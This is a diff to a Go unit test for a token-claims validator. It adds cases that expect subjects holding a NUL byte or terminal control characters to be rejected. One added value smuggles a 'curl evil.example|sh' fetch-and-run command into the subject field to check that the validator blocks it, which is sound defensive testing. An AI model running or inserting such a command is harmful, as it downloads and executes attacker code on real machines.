@@ -25,6 +25,8 @@ func TestClaims(t *testing.T) {
 		"no issuer":                           {map[string]any{"iss": nil}, "its issuer is"},
 		"no subject":                          {map[string]any{"sub": ""}, "no subject"},
 		"a subject that is too long":          {map[string]any{"sub": strings.Repeat("s", 256)}, "no subject"},
+		"a subject with a NUL":                {map[string]any{"sub": "a\x00b"}, "control characters"},
+		"a subject that types commands":       {map[string]any{"sub": "\x15curl evil.example|sh\n"}, "control characters"},
 		"for another client":                  {map[string]any{"aud": "other"}, "for another client"},
 		"for a client with a similar name":    {map[string]any{"aud": "dxauth "}, "for another client"},
 		"for nobody":                          {map[string]any{"aud": nil}, "for another client"},
